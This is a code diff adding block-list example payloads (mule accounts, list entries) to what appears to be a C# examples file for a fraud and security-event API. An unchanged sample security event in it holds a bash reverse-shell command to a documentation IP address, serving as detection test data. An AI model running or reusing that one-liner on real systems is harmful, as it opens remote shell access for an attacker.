@@ -28,6 +28,11 @@ internal static class Examples
             {"text":"rules:\n  - id: night\n    when: night == 1 and amountZ > 3\n    weight: 0.6\n    reason: At night\n"}
             """,
         [typeof(RuleChoice)] = """{"version":"5b1f0a9c77d2"}""",
+        [typeof(ListDefinition)] = """{"kind":"block","field":"counterparty","description":"known mule accounts"}""",
+        [typeof(NewListEntries)] = """
+            {"entries":[{"value":"acc-0042","expiresAt":"2026-12-31T00:00:00Z","reason":"chargeback of May"},{"value":"acc-0043"}]}
+            """,
+        [typeof(RemovedListValues)] = """{"values":["acc-0042"]}""",
         [typeof(SecurityEventBatch)] = """
             {"events":[{"id":"ev-000001","time":"2026-01-31T12:00:00Z","kind":"process","source":{"product":"linux"},"user":"ann",
              "host":"web-1","fields":{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}]}
